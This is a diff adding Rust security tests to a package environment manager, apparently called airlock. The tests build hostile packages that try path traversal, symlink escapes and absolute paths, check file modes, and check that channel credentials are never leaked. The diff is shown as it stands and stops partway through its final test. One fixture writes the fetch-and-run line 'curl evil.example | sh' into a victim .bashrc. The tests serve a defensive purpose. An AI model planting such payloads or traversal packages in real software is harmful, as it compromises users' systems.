@@ -1115,6 +1115,10 @@ fn pip_setup_with(s: &Sandbox, pip_lines: &str) -> (PathBuf, PathBuf) {
                 .into_bytes(),
             executable: true,
             has_prefix: false,
+            mode: None,
+            symlink_to: None,
+            listed_as: None,
+            unlisted: false,
         })],
     )
     .unwrap();
@@ -1833,4 +1837,990 @@ fn an_unreachable_locked_wheel_leaves_no_environment_and_keeps_the_replaced_one(
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
         .collect();
     assert_eq!(dirs, vec!["keep"]);
+}
+
+/// What a file outside the environment looks like: contents, inode and mode.
+#[derive(Debug, PartialEq)]
+struct FileState {
+    contents: String,
+    inode: u64,
+    mode: String,
+}
+
+fn file_state(path: &Path) -> FileState {
+    use std::os::unix::fs::MetadataExt as _;
+    let meta = std::fs::symlink_metadata(path)
+        .unwrap_or_else(|e| panic!("{} is gone: {e}", path.display()));
+    FileState {
+        contents: String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned(),
+        inode: meta.ino(),
+        mode: format!("{:o}", meta.mode()),
+    }
+}
+
+/// A file a hostile package aims at, made before each attempt: 0640, known contents.
+fn victim(path: &Path) -> FileState {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    if !path.exists() {
+        std::fs::write(path, "the user's own file\n").unwrap();
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o640)).unwrap();
+    }
+    file_state(path)
+}
+
+/// One hostile package of issue 22 and the file it aims at. The sandbox puts the prefix
+/// (and its staging directory) and each cache entry four directories below the sandbox's
+/// root: `data/airlock/envs/NAME`, `cache/airlock/pkgs/ENTRY`.
+struct Attack {
+    name: &'static str,
+    /// The file outside (relative to the sandbox's root).
+    victim: &'static str,
+    /// The listed path the error must name.
+    listed: String,
+    package: PackageBuild,
+}
+
+fn attacks(root: &Path, format: testchannel::ArchiveFormat) -> Vec<Attack> {
+    let evil = |files: Vec<PackageFile>| {
+        files.into_iter().fold(
+            PackageBuild::new("evil", "1.0").format(format),
+            PackageBuild::file,
+        )
+    };
+    let dotdot = "../../../../victim.txt".to_owned();
+    let absolute = root.join("absolute-victim.txt").display().to_string();
+    let through = "L/../../../../../home/.bashrc".to_owned();
+    vec![
+        // `L -> d1/.../d5` in the cache entry brings the source back into the entry, while in
+        // the prefix `L` is first made a real directory: the destination is the sandbox's root.
+        Attack {
+            name: "symlink-and-dotdot",
+            victim: "home/.bashrc",
+            listed: through.clone(),
+            package: evil(vec![
+                PackageFile::data("d1/d2/d3/d4/d5/keep", "x\n"),
+                PackageFile::symlink("L", "d1/d2/d3/d4/d5").unlisted(),
+                PackageFile::data("home/.bashrc", "curl evil.example | sh\n").listed_as(&through),
+            ]),
+        },
+        // A symbolic link the package lists, and a file below it: no `..` anywhere.
+        Attack {
+            name: "through-shipped-symlink",
+            victim: "outside/victim.txt",
+            listed: "share/out/victim.txt".to_owned(),
+            package: evil(vec![
+                PackageFile::symlink("share/out", &root.join("outside").display().to_string()),
+                PackageFile::data("payload", "payload\n").listed_as("share/out/victim.txt"),
+            ]),
+        },
+        Attack {
+            name: "plain-dotdot",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", "payload\n").listed_as(&dotdot),
+            ]),
+        },
+        Attack {
+            name: "absolute",
+            victim: "absolute-victim.txt",
+            listed: absolute.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", "payload\n").listed_as(&absolute),
+            ]),
+        },
+        Attack {
+            name: "has-prefix-outside",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
+                    .with_prefix()
+                    .listed_as(&dotdot),
+            ]),
+        },
+        // The same through the older metadata only (`info/files`, `info/has_prefix`).
+        Attack {
+            name: "legacy-has-prefix-outside",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
+                    .with_prefix()
+                    .listed_as(&dotdot),
+            ])
+            .legacy_metadata(),
+        },
+    ]
+}
+
+/// Issue 22, items 1 and 2: a package that lists a path outside its environment (through a
+/// symbolic link and `..`, a shipped symbolic link, a plain `..`, an absolute path, prefix
+/// replacement outside; `paths.json` or the older lists; `.conda` and `.tar.bz2`) is refused by
+/// `env create`, `env install --lock` and `env update`, with an error naming the package and
+/// the path (never a panic), before anything is linked: the file outside keeps its contents,
+/// inode and mode, and no environment looks complete. Every case runs; the failures are
+/// reported together.
+#[test]
+fn issue_22_a_package_never_reaches_outside_its_environment() {
+    let mut problems: Vec<String> = Vec::new();
+    for format in [
+        testchannel::ArchiveFormat::Conda,
+        testchannel::ArchiveFormat::TarBz2,
+    ] {
+        let names: Vec<&str> = attacks(Path::new("/x"), format)
+            .iter()
+            .map(|a| a.name)
+            .collect();
+        for name in names {
+            let s = Sandbox::new();
+            let root = s.path("");
+            // Built against this sandbox's root (some paths in the attack are absolute).
+            let attack = attacks(&root, format)
+                .into_iter()
+                .find(|a| a.name == name)
+                .unwrap();
+            std::fs::create_dir_all(root.join("outside")).unwrap();
+            let channel = s.path("evil-channel");
+            testchannel::build_channel(
+                &channel,
+                &[
+                    attack.package.clone(),
+                    PackageBuild::new("benign", "1.0").format(format),
+                ],
+            )
+            .unwrap();
+            let url = url::Url::from_directory_path(&channel).unwrap();
+            let victim_path = root.join(attack.victim);
+            let context = format!("{} ({format:?})", attack.name);
+            let mut attempt = |what: &str, args: &[&str]| {
+                let before = victim(&victim_path);
+                let out = s.run(args);
+                let err = String::from_utf8_lossy(&out.stderr).into_owned();
+                let after = std::fs::symlink_metadata(&victim_path)
+                    .ok()
+                    .map(|_| file_state(&victim_path));
+                if after.as_ref() != Some(&before) {
+                    problems.push(format!(
+                        "{context}, {what}: the file outside changed: {before:?} -> {after:?}"
+                    ));
+                    // Restored for the next command.
+                    let _ = std::fs::remove_file(&victim_path);
+                }
+                if out.status.success() {
+                    problems.push(format!("{context}, {what}: succeeded:\n{err}"));
+                } else if err.contains("panicked") || out.status.code().is_none() {
+                    problems.push(format!("{context}, {what}: crashed:\n{err}"));
+                } else if !(err.contains("evil-1.0-0") && err.contains(&attack.listed)) {
+                    problems.push(format!(
+                        "{context}, {what}: the error names neither package nor path:\n{err}"
+                    ));
+                }
+                if err.contains("corrupt") {
+                    problems.push(format!(
+                        "{context}, {what}: the cache check read the listed paths:\n{err}"
+                    ));
+                }
+                if !leftovers(&s.envs_dir()).is_empty() {
+                    problems.push(format!(
+                        "{context}, {what}: left {:?}",
+                        leftovers(&s.envs_dir())
+                    ));
+                }
+            };
+
+            attempt(
+                "create",
+                &["env", "create", "-n", "made", "-c", url.as_str(), "evil"],
+            );
+            let yml = s.write(
+                "evil.yml",
+                &format!("name: evil\nchannels:\n  - {url}\ndependencies:\n  - evil\n"),
+            );
+            let lock = s.path("work").join("evil.lock");
+            s.ok(&[
+                "env",
+                "lock",
+                "-f",
+                yml.to_str().unwrap(),
+                "-o",
+                lock.to_str().unwrap(),
+            ]);
+            attempt(
+                "install --lock",
+                &[
+                    "env",
+                    "install",
+                    "--lock",
+                    lock.to_str().unwrap(),
+                    "-n",
+                    "locked",
+                ],
+            );
+            s.ok(&["env", "create", "-n", "base", "-c", url.as_str(), "benign"]);
+            let tree = tree_bytes(&s.prefix("base"));
+            attempt(
+                "update",
+                &["env", "update", "-n", "base", "-c", url.as_str(), "evil"],
+            );
+            for env in ["made", "locked"] {
+                if s.prefix(env).exists() {
+                    problems.push(format!("{context}: the environment {env} was left"));
+                }
+            }
+            if tree_bytes(&s.prefix("base")) != tree {
+                problems.push(format!(
+                    "{context}: the failed update changed the environment"
+                ));
+            }
+        }
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
+}
+
+/// Issue 22, item 1: a symbolic link already in the environment (shipped by a package
+/// installed earlier, pointing outside) is not a way out for a later package that lists a
+/// path below it: the update is refused by the check of the environment's parents (the
+/// listed path alone is harmless), and the file outside is untouched.
+#[test]
+fn issue_22_an_update_never_writes_through_a_symbolic_link_in_the_environment() {
+    let s = Sandbox::new();
+    let outside = s.path("outside");
+    let victim_path = outside.join("victim.txt");
+    let before = victim(&victim_path);
+    let channel = s.path("channel");
+    testchannel::build_channel(
+        &channel,
+        &[
+            PackageBuild::new("linker", "1.0").file(PackageFile::symlink(
+                "share/x",
+                &outside.display().to_string(),
+            )),
+            PackageBuild::new("writer", "1.0")
+                .file(PackageFile::data("share/x/victim.txt", "payload\n")),
+        ],
+    )
+    .unwrap();
+    let url = url::Url::from_directory_path(&channel).unwrap();
+    s.ok(&["env", "create", "-n", "e", "-c", url.as_str(), "linker"]);
+    let tree = tree_bytes(&s.prefix("e"));
+    let err = s.fails(&["env", "update", "-n", "e", "-c", url.as_str(), "writer"]);
+    assert_eq!(file_state(&victim_path), before, "{err}");
+    assert!(
+        err.contains("writer-1.0-0") && err.contains("share/x/victim.txt"),
+        "{err}"
+    );
+    assert!(err.contains("symbolic link"), "{err}");
+    assert!(tree_bytes(&s.prefix("e")) == tree);
+    assert!(leftovers(&s.envs_dir()).is_empty());
+}
+
+/// Rewrites the modes of files in a package archive (rattler's archive writer keeps only 0644
+/// and 0755): `modes` maps a path in the package to its mode. Python's `tarfile` and `zipfile`
+/// with the `zstd` tool; returns how many entries were changed.
+fn set_archive_modes(archive: &Path, modes: &[(&str, u32)]) -> usize {
+    const SCRIPT: &str = r#"
+import bz2, io, subprocess, sys, tarfile, zipfile
+path = sys.argv[1]
+modes = {k: int(v, 8) for k, v in (a.split("=") for a in sys.argv[2:])}
+changed = 0
+def fix(data):
+    global changed
+    src = tarfile.open(fileobj=io.BytesIO(data), mode="r:")
+    out = io.BytesIO()
+    dst = tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT)
+    for m in src.getmembers():
+        f = src.extractfile(m) if m.isfile() else None
+        name = m.name[2:] if m.name.startswith("./") else m.name
+        if name in modes:
+            m.mode = modes[name]
+            changed += 1
+        dst.addfile(m, f)
+    dst.close()
+    return out.getvalue()
+if path.endswith(".tar.bz2"):
+    with open(path, "rb") as f:
+        data = bz2.decompress(f.read())
+    with open(path, "wb") as f:
+        f.write(bz2.compress(fix(data)))
+else:
+    with zipfile.ZipFile(path) as z:
+        items = [(i, z.read(i.filename)) for i in z.infolist()]
+    with zipfile.ZipFile(path, "w") as z:
+        for info, data in items:
+            if info.filename.startswith("pkg-") and info.filename.endswith(".tar.zst"):
+                run = lambda args, data: subprocess.run(args, input=data, capture_output=True, check=True).stdout
+                data = run(["zstd", "-q", "-c"], fix(run(["zstd", "-d", "-q", "-c"], data)))
+            z.writestr(info, data)
+print(changed)
+"#;
+    let out = Command::new("python3")
+        .arg("-c")
+        .arg(SCRIPT)
+        .arg(archive)
+        .args(modes.iter().map(|(p, m)| format!("{p}={m:o}")))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
+}
+
+/// Issue 22, item 3: a package's 0777 and 0666 files lose group and other write, in the
+/// user's cache and in the environment (new environment and update; linked and
+/// prefix-replaced; both archive formats).
+#[test]
+fn issue_22_modes_follow_the_umask() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let mut problems = Vec::new();
+    for format in [
+        testchannel::ArchiveFormat::Conda,
+        testchannel::ArchiveFormat::TarBz2,
+    ] {
+        let s = Sandbox::new();
+        let channel = s.path("wide-channel");
+        let wide = PackageBuild::new("wide", "1.0")
+            .format(format)
+            .file(PackageFile::data("bin/wide-tool", "#!/bin/sh\n"))
+            .file(PackageFile::data("share/wide/data", "data\n"))
+            .file(
+                PackageFile::data(
+                    "share/wide/prefixed",
+                    format!("{}\n", testchannel::PREFIX_PLACEHOLDER),
+                )
+                .with_prefix(),
+            );
+        let archive = wide.write_into(&channel).unwrap();
+        let modes = [
+            ("bin/wide-tool", 0o777),
+            ("share/wide/data", 0o666),
+            ("share/wide/prefixed", 0o666),
+        ];
+        assert_eq!(set_archive_modes(&archive, &modes), 3);
+        // Indexes the rewritten archive (its new sha256) with the benign package.
+        testchannel::build_channel(&channel, &[PackageBuild::new("benign", "1.0")]).unwrap();
+        let url = url::Url::from_directory_path(&channel).unwrap();
+        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
+        s.ok(&["env", "create", "-n", "w", "-c", url.as_str(), "wide"]);
+        s.ok(&["env", "create", "-n", "u", "-c", url.as_str(), "benign"]);
+        s.ok(&["env", "update", "-n", "u", "-c", url.as_str(), "wide"]);
+        let entry = cache_entry(&s, "wide-1.0-0");
+        for (file, _) in modes {
+            for path in [
+                entry.join(file),
+                s.prefix("w").join(file),
+                s.prefix("u").join(file),
+            ] {
+                let m = mode(&path);
+                if m & 0o022 != 0 {
+                    problems.push(format!("{format:?}: {} is {m:o}", path.display()));
+                }
+            }
+        }
+        let tool = mode(&s.prefix("w").join("bin/wide-tool"));
+        if tool & 0o700 != 0o700 {
+            problems.push(format!(
+                "{format:?}: the tool lost its owner bits: {tool:o}"
+            ));
+        }
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
+}
+
+/// Issue 22, item 5: an update killed while it swaps the new environment in leaves the old
+/// or the new one, never neither: after the exchange (the new one), and on the two-rename
+/// path between the renames (the old one, put back by the next command).
+#[test]
+fn issue_22_an_update_killed_at_the_swap_never_loses_the_environment() {
+    use std::os::unix::process::ExitStatusExt as _;
+    let s = Sandbox::new();
+    s.ok(&["env", "create", "-n", "up", "hello=1.0"]);
+    let prefix = s.prefix("up");
+
+    // What a kill between the two renames of an update leaves, made by hand: the old
+    // environment renamed aside, the finished new one under its staging name, nothing at
+    // the environment's own name. The next command puts the old one back.
+    let aside = s.envs_dir().join(".up.airlock-staging-old-999999999");
+    std::fs::rename(&prefix, &aside).unwrap();
+    let finished = s.envs_dir().join(".up.airlock-staging-999999999");
+    copy_dir(&aside, &finished);
+    s.ok(&["env", "list"]);
+    assert!(
+        prefix.join("conda-meta").is_dir(),
+        "the environment was lost after an interrupted swap"
+    );
+    assert!(installed(&prefix).contains(&"hello-1.0-0".to_owned()));
+    assert!(
+        leftovers(&s.envs_dir()).is_empty(),
+        "{:?}",
+        leftovers(&s.envs_dir())
+    );
+
+    let killed = |at: &str, spec: &str| {
+        let out = s
+            .command()
+            .args(["env", "update", "-n", "up", spec])
+            .env("AIRLOCK_TEST_KILL_AT", at)
+            .output()
+            .unwrap();
+        assert_eq!(
+            out.status.signal(),
+            Some(9),
+            "not killed at {at}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+
+    killed("exchange", "hello=2.0");
+    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
+    s.ok(&["env", "list"]);
+    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
+    assert!(
+        leftovers(&s.envs_dir()).is_empty(),
+        "{:?}",
+        leftovers(&s.envs_dir())
+    );
+
+    killed("rename", "hello=1.0");
+    assert!(
+        !prefix.exists(),
+        "the kill did not land between the renames"
+    );
+    let out = s.run(&["env", "list"]);
+    assert!(out.status.success());
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("putting the old one back"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
+    assert!(
+        leftovers(&s.envs_dir()).is_empty(),
+        "{:?}",
+        leftovers(&s.envs_dir())
+    );
+    s.ok(&["env", "run", "-n", "up", "hello"]);
+}
+
+/// A channel served over HTTP on 127.0.0.1 that wants basic authentication (`user`,
+/// `password`) or the conda token `token` (`/t/TOKEN/...`): 401 otherwise, 404 for what is
+/// not there. One thread, one request per connection. Returns the base URL (no credentials).
+fn serve_channel_with_auth(dir: PathBuf, user: &str, password: &str, token: &str) -> String {
+    use std::io::{BufRead as _, BufReader, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let expected = format!("Basic {}", base64(format!("{user}:{password}").as_bytes()));
+    let token_prefix = format!("/t/{token}");
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut request = String::new();
+            if reader.read_line(&mut request).is_err() {
+                continue;
+            }
+            let mut authorized = false;
+            loop {
+                let mut line = String::new();
+                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                    break;
+                }
+                if let Some((name, value)) = line.split_once(':')
+                    && name.eq_ignore_ascii_case("authorization")
+                    && value.trim() == expected
+                {
+                    authorized = true;
+                }
+            }
+            let mut parts = request.split_whitespace();
+            let (method, path) = (parts.next().unwrap_or(""), parts.next().unwrap_or("/"));
+            let path = match path.strip_prefix(&token_prefix) {
+                Some(rest) => {
+                    authorized = true;
+                    rest
+                }
+                None => path,
+            };
+            let (status, body) = if authorized {
+                match std::fs::read(dir.join(path.trim_start_matches('/'))) {
+                    Ok(bytes) if !path.ends_with('/') => ("200 OK", bytes),
+                    _ => ("404 Not Found", Vec::new()),
+                }
+            } else {
+                ("401 Unauthorized", Vec::new())
+            };
+            let head = format!(
+                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\nWWW-Authenticate: Basic realm=\"test\"\r\n\r\n",
+                body.len()
+            );
+            let _ = stream.write_all(head.as_bytes());
+            if method != "HEAD" {
+                let _ = stream.write_all(&body);
+            }
+        }
+    });
+    format!("http://127.0.0.1:{port}")
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let b = [
+            chunk[0],
+            chunk.get(1).copied().unwrap_or(0),
+            chunk.get(2).copied().unwrap_or(0),
+        ];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(TABLE[((n >> (18 - 6 * i)) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// Every file under `dir` (recursively, not following symbolic links) whose bytes contain
+/// `secret`.
+fn files_containing(dir: &Path, secret: &str) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries {
+            let path = entry.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            if meta.is_dir() {
+                stack.push(path);
+            } else if meta.is_file()
+                && std::fs::read(&path)
+                    .unwrap()
+                    .windows(secret.len())
+                    .any(|w| w == secret.as_bytes())
+            {
+                found.push(path);
+            }
+        }
+    }
+    found
+}
+
+/// Issue 22, item 6: a channel URL with a user and password, or a `/t/TOKEN/` segment, works
+/// (the credentials reach the server), and the secret is in no file airlock writes (lock,
+/// `conda-meta`, history, repodata and package caches, exports) and in nothing it prints,
+/// errors included. A lock install takes its credentials from `RATTLER_AUTH_FILE`.
+#[test]
+fn issue_22_credentials_in_channel_urls_are_never_written() {
+    let s = Sandbox::new();
+    let (password, token) = ("pa55-SECRET-word", "TOKEN-SECRET-42");
+    let served = s.path("served");
+    testchannel::build_channel(&served.join("chan"), &testchannel::demo_packages()).unwrap();
+    // The channel's own files hold no secret: everything found later was written by airlock.
+    let base = serve_channel_with_auth(served, "alice", password, token);
+    let with_password = base.replacen("http://", &format!("http://alice:{password}@"), 1);
+    let with_password = format!("{with_password}/chan");
+    let with_token = format!("{base}/t/{token}/chan");
+    let mut printed = String::new();
+    let mut run = |args: &[&str], envs: &[(&str, &Path)], ok: bool| {
+        let mut cmd = s.command();
+        cmd.args(args);
+        for (k, v) in envs {
+            cmd.env(k, v);
+        }
+        let out = cmd.output().unwrap();
+        let (stdout, stderr) = (
+            String::from_utf8_lossy(&out.stdout).into_owned(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        );
+        assert_eq!(out.status.success(), ok, "{args:?}:\n{stdout}\n{stderr}");
+        printed.push_str(&stdout);
+        printed.push_str(&stderr);
+        stdout
+    };
+    run(
+        &["env", "create", "-n", "pw", "-c", &with_password, "hello"],
+        &[],
+        true,
+    );
+    run(
+        &["env", "create", "-n", "tok", "-c", &with_token, "hello=1.0"],
+        &[],
+        true,
+    );
+    let yml = s.write(
+        "auth.yml",
+        &format!("name: auth\nchannels:\n  - {with_password}\ndependencies:\n  - hello\n"),
+    );
+    let lock = s.path("work").join("auth.lock");
+    run(
+        &[
+            "env",
+            "lock",
+            "-f",
+            yml.to_str().unwrap(),
+            "-o",
+            lock.to_str().unwrap(),
+        ],
+        &[],
+        true,
+    );
+    for format in ["explicit", "lock", "yaml"] {
+        let out = run(
+            &["env", "export", "-n", "pw", "--format", format],
+            &[],
+            true,
+        );
+        assert!(out.contains("hello"), "{out}");
+    }
+    // From the lock: the URL in it has no credentials, the authentication file has them.
+    let auth_file = s.path("config").join("rattler-auth.json");
+    std::fs::write(
+        &auth_file,
+        format!(
+            r#"{{"127.0.0.1": {{"BasicHTTP": {{"username": "alice", "password": "{password}"}}}}}}"#
+        ),
+    )
+    .unwrap();
+    run(
+        &[
+            "env",
+            "install",
+            "--lock",
+            lock.to_str().unwrap(),
+            "-n",
+            "fromlock",
+        ],
+        &[("RATTLER_AUTH_FILE", &auth_file)],
+        true,
+    );
+    // A lock written elsewhere with the credentials in its URLs: they are used, not copied.
+    let dirty_lock = s.path("work").join("dirty.lock");
+    std::fs::write(
+        &dirty_lock,
+        std::fs::read_to_string(&lock)
+            .unwrap()
+            .replace(&base, with_password.trim_end_matches("/chan")),
+    )
+    .unwrap();
+    assert!(
+        std::fs::read_to_string(&dirty_lock)
+            .unwrap()
+            .contains(password)
+    );
+    run(
+        &[
+            "env",
+            "install",
+            "--lock",
+            dirty_lock.to_str().unwrap(),
+            "-n",
+            "fromdirty",
+        ],
+        &[],
+        true,
+    );
+    // Errors: a channel that is not there, a package that is not there.
+    run(
+        &[
+            "env",
+            "create",
+            "-n",
+            "x",
+            "-c",
+            &format!("{with_password}-missing"),
+            "hello",
+        ],
+        &[],
+        false,
+    );
+    run(
+        &["env", "create", "-n", "y", "-c", &with_password, "nothere"],
+        &[],
+        false,
+    );
+    run(
+        &["env", "update", "-n", "pw", "-c", &with_token, "nothere"],
+        &[],
+        false,
+    );
+    // A package the index lists but the server does not have: the download fails.
+    std::fs::remove_file(s.path("served/chan/noarch/greeting-data-1.0-0.conda")).unwrap();
+    std::fs::remove_dir_all(s.pkgs_dir()).unwrap();
+    for url in [&with_token, &with_password] {
+        run(
+            &["env", "create", "-n", "z", "-c", url, "greeting-data=1.0"],
+            &[],
+            false,
+        );
+    }
+
+    assert!(installed(&s.prefix("pw")).contains(&"hello-2.0-0".to_owned()));
+    assert!(installed(&s.prefix("tok")).contains(&"hello-1.0-0".to_owned()));
+    assert!(installed(&s.prefix("fromlock")).contains(&"hello-2.0-0".to_owned()));
+    assert!(installed(&s.prefix("fromdirty")).contains(&"hello-2.0-0".to_owned()));
+    // The authentication file and the yml are the user's own; everything else is searched.
+    std::fs::remove_file(&auth_file).unwrap();
+    std::fs::remove_file(&yml).unwrap();
+    std::fs::remove_file(&dirty_lock).unwrap();
+    for secret in [password, token] {
+        let files = files_containing(&s.path(""), secret);
+        assert!(files.is_empty(), "{secret} written to {files:#?}");
+        assert!(!printed.contains(secret), "{secret} printed:\n{printed}");
+    }
+}
+
+/// Issue 22, item 7: staging names beside an environment cannot be guessed. Another user of a
+/// shared directory who creates the names a run would use (`.NAME.airlock-staging-PID@HOST`
+/// for the next few thousand process ids) does not block `env create`; what they made is
+/// left alone.
+#[test]
+fn issue_22_staging_names_cannot_be_taken_first() {
+    let s = Sandbox::new();
+    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
+    let host: String = host
+        .trim()
+        .chars()
+        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
+        .collect();
+    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    std::fs::create_dir_all(s.envs_dir()).unwrap();
+    let squatted: Vec<PathBuf> = (last + 1..last + 3000)
+        .map(|pid| {
+            let path = s
+                .envs_dir()
+                .join(format!(".taken.airlock-staging-{pid}@{host}"));
+            std::fs::write(&path, "someone else's\n").unwrap();
+            path
+        })
+        .collect();
+    s.ok(&["env", "create", "-n", "taken", "hello"]);
+    assert!(installed(&s.prefix("taken")).contains(&"hello-2.0-0".to_owned()));
+    assert!(
+        squatted.iter().all(|p| p.is_file()),
+        "another user's files were removed"
+    );
+}
+
+/// Issue 22, item 7: `env --help` says which package scripts run and what a `pip:` section
+/// can do.
+#[test]
+fn issue_22_env_help_says_what_runs() {
+    let s = Sandbox::new();
+    let help = s.ok(&["env", "--help"]);
+    for needed in [
+        "post-link",
+        "never run",
+        "activate.d",
+        "env shell-hook",
+        "pip:",
+        "index",
+        "build scripts",
+    ] {
+        assert!(help.contains(needed), "`{needed}` missing from:\n{help}");
+    }
+}
+
+/// Issue 22, item 4: a shared cache layer is trusted only as far as its writers are. A layer
+/// directory, or an entry in it, that group or others can write (a group member could replace
+/// a file and rewrite the entry's own `paths.json`) is not linked from: a warning names it and
+/// its mode, and the package is fetched into the user's own cache. The layer is not changed.
+#[test]
+fn issue_22_a_shared_cache_layer_others_can_write_is_not_trusted() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let s = Sandbox::new();
+    s.ok(&["env", "create", "-n", "seed", "hello"]);
+    let shared = s.path("shared-pkgs");
+    std::fs::rename(s.pkgs_dir(), &shared).unwrap();
+    std::fs::create_dir_all(s.path("config/airlock")).unwrap();
+    std::fs::write(
+        s.path("config/airlock/config.toml"),
+        format!("pkgs_layers = [\"{}\"]\n", shared.display()),
+    )
+    .unwrap();
+    let rel = "share/greeting-data/greeting.txt";
+    let shared_file = std::fs::read_dir(&shared)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| {
+            let name = p.file_name().unwrap().to_string_lossy().into_owned();
+            p.is_dir() && name.starts_with("greeting-data-2.0-0-")
+        })
+        .unwrap()
+        .join(rel);
+    let chmod = |path: &Path, mode: u32| {
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+    };
+    let create = |name: &str| {
+        let out = s.run(&["env", "create", "-n", name, "hello"]);
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert!(out.status.success(), "{stderr}");
+        stderr
+    };
+
+    // Trusted as it is (0755 directories, 0644 files): linked from.
+    create("trusted");
+    assert_eq!(inode(&s.prefix("trusted").join(rel)), inode(&shared_file));
+
+    // The layer directory is group-writable.
+    chmod(&shared, 0o775);
+    let stderr = create("group-dir");
+    assert!(
+        stderr.contains(&shared.display().to_string()) && stderr.contains("775"),
+        "{stderr}"
+    );
+    assert_ne!(inode(&s.prefix("group-dir").join(rel)), inode(&shared_file));
+    chmod(&shared, 0o755);
+    // What was fetched into the user's own cache would be found there first.
+    std::fs::remove_dir_all(s.pkgs_dir()).unwrap();
+
+    // A file in an entry is group-writable.
+    chmod(&shared_file, 0o664);
+    let stderr = create("group-file");
+    assert!(
+        stderr.contains(&shared_file.display().to_string()) && stderr.contains("664"),
+        "{stderr}"
+    );
+    assert_ne!(
+        inode(&s.prefix("group-file").join(rel)),
+        inode(&shared_file)
+    );
+    assert_eq!(
+        std::fs::metadata(&shared_file)
+            .unwrap()
+            .permissions()
+            .mode()
+            & 0o7777,
+        0o664,
+        "the shared layer was changed"
+    );
+}
+
+/// Runs `airlock` as another user (`runuser`), with the sandbox's isolated environment.
+fn run_as(s: &Sandbox, user: &str, args: &[&str]) -> Output {
+    let alias = url::Url::from_directory_path(channels_root()).unwrap();
+    let mut cmd = Command::new("runuser");
+    cmd.args(["-u", user, "--", "/usr/bin/env", "-i"])
+        .arg(format!(
+            "PATH={}",
+            std::env::var("PATH").unwrap_or_default()
+        ))
+        .arg(format!("HOME={}", s.home().display()))
+        .arg(format!("XDG_DATA_HOME={}", s.path("data").display()))
+        .arg(format!("XDG_CACHE_HOME={}", s.path("cache").display()))
+        .arg(format!("XDG_CONFIG_HOME={}", s.path("config").display()))
+        .arg(format!("XDG_STATE_HOME={}", s.path("state").display()))
+        .arg(format!("AIRLOCK_CHANNEL_ALIAS={alias}"))
+        .arg(env!("CARGO_BIN_EXE_airlock"))
+        .args(args)
+        .current_dir("/");
+    cmd.output().unwrap()
+}
+
+/// Issue 22, items 3 and 4 with real users: `nobody` makes an environment from a package
+/// with 0666 and 0777 files, partly linked from a shared cache layer that root owns. The
+/// kernel refuses hard links into root's layer (`fs.protected_hardlinks`), and airlock says
+/// the files are copied, once. Another user (`daemon`) then cannot change a file of nobody's
+/// cache entry or environment.
+#[test]
+fn issue_22_another_user_cannot_change_a_users_environment_or_cache() {
+    use std::os::unix::fs::PermissionsExt as _;
+    if !nix::unistd::geteuid().is_root() {
+        eprintln!("skipped: needs root to run airlock as two other users");
+        return;
+    }
+    let s = Sandbox::new();
+    let channel = s.path("channel");
+    let wide = PackageBuild::new("wide", "1.0")
+        .file(PackageFile::data("bin/wide-tool", "#!/bin/sh\n"))
+        .file(PackageFile::data("share/wide/data", "data\n"));
+    let archive = wide.write_into(&channel).unwrap();
+    let modes = [("bin/wide-tool", 0o777), ("share/wide/data", 0o666)];
